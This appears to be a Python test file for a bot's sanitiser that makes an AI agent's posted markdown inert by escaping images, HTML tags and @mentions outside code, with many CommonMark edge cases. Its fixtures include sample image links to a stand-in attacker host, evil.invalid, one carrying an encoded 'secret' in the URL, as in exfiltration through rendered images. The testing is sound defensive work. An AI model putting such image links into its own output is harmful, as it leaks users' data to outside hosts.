"""What the bot posts of an agent's own markdown (a review, a question): readable, and inert."""

from dataclasses import replace

from bot.report import sentences
from bot.report.sentences import inert
from bot.store import Run, RunRequest


def test_images_html_and_mentions_are_made_inert_outside_code():
    assert inert("see ![x](http://evil.invalid/x.png?d=c2VjcmV0) now") == "see \\![x](http://evil.invalid/x.png?d=c2VjcmV0) now"
    assert inert("![y][ref]") == "\\![y][ref]"
    assert inert('<img src="http://evil.invalid/p.png"> and <details>') == '&lt;img src="http://evil.invalid/p.png"> and &lt;details>'
    assert inert("cc @rita, thanks @bob.") == "cc ＠rita, thanks ＠bob."  # a full-width @ mentions nobody
    assert inert("(@rita) _x_@bob") == "(＠rita) _x_＠bob"


def test_what_is_not_active_is_left_as_written():
    for text in ("mail bob@example.com", "a [link](http://x.invalid)", "done \\![x](y)", "! [not an image]"):
        assert inert(text) == text
    assert inert("1 < 2") == "1 &lt; 2"  # shown the same once rendered


def test_code_blocks_and_spans_show_as_written():
    text = "\n".join(["use `@decorator` and `<T>`:", "````python", "x = '![a](b)' @c <d>", "```", "still code @e",
                      "````", "~~~", "<f>", "~~~", "after @g"])
    assert inert(text).split("\n") == [
        "use `@decorator` and `<T>`:", "````python", "x = '![a](b)' @c <d>", "```", "still code @e", "````",
        "~~~", "<f>", "~~~", "after ＠g"]


def test_the_agents_question_and_the_task_in_the_status_comment_are_inert():
    request = RunRequest(owner="acme", repo="widgets", number=1, is_pull=False, agent="codex", model="", pool="codex",
                         review=False, task="", trigger="label", requested_by="bob")
    run = replace(Run.draft(request), state="blocked", question="Which API? ![x](http://evil.invalid/q.png) @rita <b>v2</b>")
    body = sentences.status_comment(replace(run, task="Fix ![x](http://evil.invalid/t.png) for @rita"))
    assert "Requested by @bob: “Fix \\![x](http://evil.invalid/t.png) for ＠rita”" in body  # a title is anyone's
    assert "> Which API? \\![x](http://evil.invalid/q.png) ＠rita &lt;b>v2&lt;/b>" in body


def test_what_only_looks_like_code_to_a_careless_reader_is_made_inert():
    """Each of these renders its image or mention on the Forge (CommonMark), or would in some place
    (a table row, after a blank line): what is not surely code is made inert."""
    cases = {
        "`a ![i](http://evil.invalid/1.png)``": "`a \\![i](http://evil.invalid/1.png)``",  # `` does not close `
        "``` x`\n![i](http://evil.invalid/2.png)": "``` x`\n\\![i](http://evil.invalid/2.png)",  # ` in the info: no fence
        "- a\n  ```\n![i](http://evil.invalid/3.png)": "- a\n  ```\n\\![i](http://evil.invalid/3.png)",  # ends with its item
        "\\\\![i](http://evil.invalid/4.png)": "\\\\\\![i](http://evil.invalid/4.png)",  # \\ is a backslash shown
        "`a` b` ![i](http://evil.invalid/5.png) `c`": "`a` b` \\![i](http://evil.invalid/5.png) `c`",  # a lone ` on the line
        "`a\nb` ![i](http://evil.invalid/6.png) `c`": "`a\nb` \\![i](http://evil.invalid/6.png) `c`",  # a span over lines
        "\\\\`a` ![i](http://evil.invalid/7.png) `b`": "\\\\`a` \\![i](http://evil.invalid/7.png) `b`",  # \\ then `
        "| `a | ![i](http://evil.invalid/8.png) ` |": "| `a | \\![i](http://evil.invalid/8.png) ` |",  # a table's cells
        "\\@rita": "\\＠rita",  # rendered "@rita", then mentioned
    }
    for text, made in cases.items():
        assert inert(text) == made, text
    assert inert("```\n<kept>") == "```\n<kept>\n```"  # a fence left open is closed: what follows is no code
